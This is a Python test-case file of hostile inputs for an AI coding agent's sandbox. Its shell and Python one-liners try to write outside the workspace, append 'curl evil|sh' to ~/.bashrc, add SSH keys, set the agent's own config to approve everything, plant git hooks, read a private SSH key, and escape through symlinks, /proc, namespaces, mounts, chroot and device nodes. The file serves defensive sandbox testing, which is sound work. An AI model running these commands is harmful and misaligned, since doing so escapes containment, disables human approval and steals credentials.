"""Attacks on files outside the workspace."""

from __future__ import annotations

from tests.hostile.case import python, shell

WRITES = [
    shell("absolute", "echo x > @OUT/new", "1.2 write HOME file"),
    shell("dotdot", "echo x > ../outside/new; cd ..; echo x > outside/new2"),
    shell("append-bashrc", "echo 'curl evil|sh' >> ~/.bashrc; echo x >> ~/.profile"),
    shell("autostart", "mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/x.desktop"),
    shell("systemd-user-unit", "mkdir -p ~/.config/systemd/user && echo '[Unit]' > ~/.config/systemd/user/x.service"),
    shell("authorized-keys", "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"),
    shell("git-global-config", "git config --global core.pager 'sh -c evil'", "22"),
    shell("own-config", "echo 'approve = \"all\"' >> $XDG_CONFIG_HOME/laguna-agent/config.toml || echo 'approve = \"all\"' >> @HOME/xdg/config/laguna-agent/config.toml", "13, 16"),
    shell("own-credentials", "echo '{}' > @HOME/xdg/config/laguna-agent/credentials.json", "16"),
    shell("etc", "echo x > /etc/@ABSTRACT && echo REACHED; rm -f /etc/@ABSTRACT", "1.2 write /etc", proof="root only"),
    shell("symlink-directory", "ln -s @OUT link && echo x > link/new", "1.2 write through ws symlink, 29"),
    shell("symlink-file", "ln -s @OUT/victim l && echo x > l"),
    shell("symlink-chain", "mkdir d; ln -s d/../up a; ln -s @OUT up; echo x > a/new"),
    shell("hard-link", "ln @OUT/victim h && echo x >> h", "1.2 hardlink outside file into ws"),
    python("rename-out", "import os; open('f', 'w').close(); os.rename('f', '@OUT/moved')", "1.2 rename ws file outside"),
    python("rename-in", "import os; os.rename('@OUT/victim', 'stolen')"),
    python("rename-directory-in", "import os; os.rename('@OUT/dir', 'stolen-dir')"),
    python(
        "exchange",
        """
        import ctypes
        open('mine', 'w').write('x')
        ctypes.CDLL(None).renameat2(-100, b'@OUT/victim', -100, b'@WS/mine', 2)
        """,
    ),
    shell("truncate", "truncate -s 0 @OUT/victim", "1.2 truncate outside"),
    shell("truncate-open", ": > @OUT/victim"),
    shell("unlink", "rm -f @OUT/victim; rm -rf @OUT/dir; find @OUT -name script.sh -delete"),
    shell("mkdir-rmdir", "mkdir @OUT/made; rm @OUT/dir/inner; rmdir @OUT/dir"),
    shell("chmod", "chmod 777 @OUT/victim; chmod u+s @OUT/script.sh", "1.2 chmod outside"),
    shell("chown", "chown 12345 @OUT/victim", "1.2 chmod outside", proof="root only"),
    shell("utime", "touch -d 2001-01-01 @OUT/victim", "1.2 utime outside"),
    python("setxattr", "import os; os.setxattr('@OUT/victim', 'user.evil', b'x')", "1.2 setxattr outside"),
    python("removexattr-acl", "import os; os.setxattr('@OUT/victim', 'security.capability', bytes(20))", proof="root only, and a file system may refuse"),
    shell("chattr", "chattr +d @OUT/victim && lsattr @OUT/victim | grep -q d && echo REACHED; chattr -d @OUT/victim", proof="a file system may not have it"),
    shell("fifo-outside", "mkfifo @OUT/pipe"),
    python("socket-outside", "import socket; socket.socket(socket.AF_UNIX).bind('@OUT/sock')"),
    shell("symlink-outside", "ln -s /etc/passwd @OUT/link"),
    shell("proc-self-root", "echo x > /proc/self/root@OUT/new"),
    shell("proc-agent-root", "echo x > /proc/@AGENT/root@OUT/new; echo x > /proc/@AGENT/cwd/../outside/new2", "29"),
    shell("proc-parent-root", "echo x > /proc/$PPID/root@OUT/new; echo x > /proc/1/root@OUT/new2"),
    python(
        "inherited-descriptors",
        """
        import os
        for fd in range(3, 1024):
            for way in ('new', '../outside/new', '@OUT/new'.lstrip('/')):
                try: os.close(os.open(way, os.O_CREAT | os.O_WRONLY, dir_fd=fd))
                except OSError: pass
        os.chdir('/')
        open('@OUT/new-after', 'w').close()
        """,
    ),
    python(
        "descriptors-of-others",
        """
        import glob, os
        for way in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd'):
            try:
                if os.readlink(way).startswith('@TOP') and os.path.isdir(way):
                    os.close(os.open(way + '/../outside/new', os.O_CREAT | os.O_WRONLY))
            except OSError: pass
        """,
    ),
    python(
        "tmpfile-link",
        """
        import ctypes, os
        fd = os.open('@OUT', os.O_TMPFILE | os.O_WRONLY)
        ctypes.CDLL(None).linkat(-100, b'/proc/self/fd/%d' % fd, -100, b'@OUT/new', 0x400)
        """,
    ),
    python(
        "open-by-handle",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        handle = (ctypes.c_uint * 34)(128)
        mount = ctypes.c_int()
        libc.name_to_handle_at(-100, b'@OUT/victim', handle, ctypes.byref(mount), 0)
        fd = libc.open_by_handle_at(os.open('/', os.O_RDONLY), handle, os.O_WRONLY)
        if fd >= 0: os.write(fd, b'x')
        """,
        proof="root only",
    ),
    shell("tar-extract", "tar -cf t.tar README && tar -xf t.tar -C @OUT"),
    shell("cp-install-dd-tee", "cp README @OUT/a; install README @OUT/b; dd if=README of=@OUT/c status=none; tee @OUT/d < README >/dev/null"),
    shell("git-outside", "git clone -q . @OUT/clone; git init -q @OUT/repo; git --work-tree=@OUT --git-dir=.git checkout -f main -- README"),
    shell("git-worktree-outside", "git worktree add -q @OUT/wt -b wt-branch"),
    shell("patch-dotdot", "printf -- '--- /dev/null\\n+++ ../outside/new\\n@@ -0,0 +1 @@\\n+x\\n' > p; git apply --unsafe-paths p || patch -p0 -f < p; printf x | (cd @OUT && cat > new3)", "20"),
    shell("programs-that-write", "awk 'BEGIN { print 1 > \"@OUT/awk\" }'; sed -n 'w @OUT/sed' README; find . -maxdepth 1 -fprint @OUT/find; sort -o @OUT/sort README", "4"),
    shell("interpreters", "python3 -S -c 'open(\"@OUT/py\",\"w\")'; perl -e 'open(F,\">@OUT/pl\")'; node -e 'require(\"fs\").writeFileSync(\"@OUT/js\",\"\")' 2>/dev/null"),
    shell("sqlite-attach", "python3 -c \"import sqlite3; sqlite3.connect('@OUT/x.db').execute('create table t(a)')\""),
    shell("background", "(sleep 0.4; echo x > @OUT/new) >/dev/null 2>&1 & disown", settle=0.8),
    shell("daemon", "setsid -f sh -c 'sleep 0.4; echo x > @OUT/new' >/dev/null 2>&1", settle=0.9),
    shell("core-pattern", "cat /proc/sys/kernel/core_pattern > v; cat v > /proc/sys/kernel/core_pattern && echo REACHED", proof="root only"),
    python("sysrq", "import os; os.open('/proc/sysrq-trigger', os.O_WRONLY); print('REACHED')", proof="root only"),
    shell("cgroup", "mkdir /sys/fs/cgroup/@ABSTRACT && echo REACHED; rmdir /sys/fs/cgroup/@ABSTRACT", proof="root only"),
    shell("beside-everything", "echo x > @TOP/new-x; mkdir @TOP/project-evil; echo x > @TOP/project-evil/x", "3"),
    shell("workspace-itself", "cd ..; mv project elsewhere && ln -s outside project && echo x > project/new; mv elsewhere back 2>/dev/null; ls -la", "29", alone=True),
]  # fmt: skip

MOUNTS = [
    shell("mount-bind", "mkdir -p m; mount --bind @OUT m && echo x > m/new", "1.2 mount tmpfs", proof="root only"),
    shell("mount-tmpfs", "mkdir -p m; mount -t tmpfs none m && echo REACHED", "1.2 mount tmpfs", proof="root only"),
    shell("remount", "mount -o remount,bind,rw / ; mount -o remount,rw / ; echo x > @OUT/new", "1.2, root bwrap"),
    shell("umount-and-write", "umount -l @WS/.git/hooks; umount -l @WS/.git/config; umount -l @HOME/.ssh; echo x > @OUT/new; echo x > .git/hooks/x; cat ~/.ssh/id_ed25519", "1.2, root bwrap"),
    shell("unshare-mount", "unshare -Urm sh -c 'mkdir -p m; mount --bind @OUT m && echo x > m/new; mount -o remount,bind,rw / ; echo x > @OUT/new'", "1.2 unshare userns"),
    shell("unshare-remount-protected", "unshare -Urm sh -c 'umount -l @WS/.git/hooks; mount -o remount,bind,rw @WS/.git/hooks; echo evil > @WS/.git/hooks/pre-commit'", "1.2 unshare userns"),
    python(
        "new-user-namespace",
        "import ctypes; r = ctypes.CDLL(None).unshare(0x10000000); print('REACHED' if r == 0 else 'refused')",
        "1.2 unshare userns",
    ),
    python(
        "new-mount-api",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(428, -100, b'/', 1)  # open_tree, clone
        print('REACHED' if fd >= 0 else 'refused')
        """,
        proof="root only",
    ),
    shell("nsenter", "nsenter -t 1 -m touch @OUT/new; nsenter -t @AGENT -m touch @OUT/new2; nsenter -t $PPID -a touch @OUT/new3", proof="root only"),
    python(
        "setns-pidfd",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (@AGENT, @VICTIM, os.getppid(), 1):
            try: fd = os.pidfd_open(pid)
            except OSError: continue
            libc.setns(fd, 0x00020000)
        open('@OUT/new', 'w')
        """,
    ),
    shell("chroot", "chroot /proc/@AGENT/root touch @OUT/new; chroot / touch @OUT/new2", proof="root only"),
    python(
        "chroot-escape",
        """
        import os
        os.makedirs('jail', exist_ok=True)
        fd = os.open('/', os.O_RDONLY)
        try: os.chroot('jail')
        except OSError: pass
        os.fchdir(fd)
        for _ in range(20): os.chdir('..')
        open('.' + '@OUT/new', 'w')
        """,
    ),
    shell("pivot-root", "mkdir -p new/old; unshare -m sh -c 'mount --bind new new && pivot_root new new/old && echo REACHED'", proof="root only"),
    python(
        "mknod-block",
        """
        import os
        os.mknod('disk', 0o600 | 0o060000, os.stat('@OUT').st_dev)
        os.close(os.open('disk', os.O_RDONLY))
        print('REACHED')
        """,
        "1.2 write block device node",
        proof="root only, and a file system may have no device",
    ),
    python(
        "mknod-char",
        "import os; os.mknod('mem', 0o600 | 0o020000, os.makedev(1, 1)); os.open('mem', os.O_RDONLY); print('REACHED')",
        "1.2 write block device node",
        proof="root only",
    ),
    python(
        "devices-there-are",
        """
        import glob, os, stat
        for path in glob.glob('/dev/*') + glob.glob('/dev/*/*'):
            try:
                if stat.S_ISBLK(os.stat(path).st_mode) or path in ('/dev/mem', '/dev/kmsg', '/dev/port', '/dev/fuse'):
                    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)); print('REACHED', path)
            except OSError: pass
        """,
        "1.2 write block device node",
        proof="root only, and a container has none",
    ),
    shell("loop-device", "truncate -s 1M img; d=$(losetup -f --show img) && echo REACHED && losetup -d $d", proof="root only, and loop devices may be missing"),
    shell("debugfs", "PATH=$PATH:/usr/sbin:/sbin; d=$(df --output=source @OUT | tail -1); debugfs -R 'ls /' $d 2>/dev/null | grep -q lost && echo REACHED", proof="root only, ext file systems only"),
]  # fmt: skip
